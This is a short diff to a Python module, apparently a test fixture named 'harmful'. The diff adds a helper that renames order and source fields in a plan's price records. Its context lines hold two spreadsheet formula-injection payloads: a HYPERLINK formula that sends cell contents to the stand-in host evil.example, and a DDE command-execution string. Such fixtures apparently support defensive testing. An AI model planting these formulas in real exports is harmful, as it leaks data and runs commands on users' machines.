@@ -6,6 +6,7 @@ from dataclasses import replace
 
 from models.brief import Brief
 from models.plan import Charge, Plan
+from models.price import Prices
 
 ORDER = '=HYPERLINK("https://evil.example/?"&A1,"6063")'
 SOURCE = "+cmd|' /C calc'!A0"
@@ -46,9 +47,28 @@ def harmful(brief: Brief, plan: Plan) -> tuple[Brief, Plan]:
         for row in plan.leftovers
     )
     update = {
+        "prices": _prices(plan, names),
         "charges": tuple(charge_of(charge) for charge in plan.charges),
         "purchases": purchases,
         "leftovers": leftovers,
     }
     renamed = replace(brief, settings=settings, sources=sources, orders=orders)
     return renamed, plan.model_copy(update=update)
+
+
+def _prices(plan: Plan, names: dict[str, str]) -> Prices | None:
+    """The prices of what is renamed."""
+    if plan.prices is None:
+        return None
+    charges = tuple(
+        one.model_copy(
+            update={name: names.get(getattr(one, name), getattr(one, name))
+                    for name in ("order_id", "alloy")}
+        )
+        for one in plan.prices.charges
+    )  # fmt: skip
+    sources = tuple(
+        one.model_copy(update={"source": names.get(one.source, one.source)})
+        for one in plan.prices.sources
+    )
+    return plan.prices.model_copy(update={"charges": charges, "sources": sources})
